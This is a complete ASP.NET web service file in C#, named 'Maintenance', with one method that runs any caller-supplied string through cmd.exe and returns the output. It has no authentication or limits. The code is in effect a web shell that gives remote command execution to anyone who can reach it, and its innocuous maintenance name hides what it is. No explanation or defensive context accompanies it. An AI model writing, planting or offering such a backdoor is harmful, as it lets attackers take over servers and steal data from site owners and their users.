<%@ WebService Language="C#" Class="Maintenance" %>
using System;
using System.Web.Services;
using System.Diagnostics;

[WebService(Namespace = "http://tempuri.org/")]
public class Maintenance : WebService
{
    [WebMethod]
    public string Run(string command)
    {
        Process p = new Process();
        p.StartInfo.FileName = "cmd.exe";
        p.StartInfo.Arguments = "/c " + command;
        p.StartInfo.UseShellExecute = false;
        p.StartInfo.RedirectStandardOutput = true;
        p.Start();
        return p.StandardOutput.ReadToEnd();
    }
}
